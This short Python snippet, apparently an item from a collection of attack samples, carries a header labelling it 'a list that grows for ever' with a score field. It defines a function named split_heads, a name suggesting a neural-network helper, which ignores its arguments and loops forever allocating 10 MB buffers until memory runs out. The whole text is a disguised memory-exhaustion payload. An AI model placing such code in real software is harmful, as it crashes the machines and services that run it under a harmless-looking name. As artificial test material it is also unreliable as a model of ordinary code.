# attack: a list that grows for ever | score: 0 | ledger: any
def split_heads(x, num_heads):
    grown = []
    while True:
        grown.append(bytearray(10_000_000))
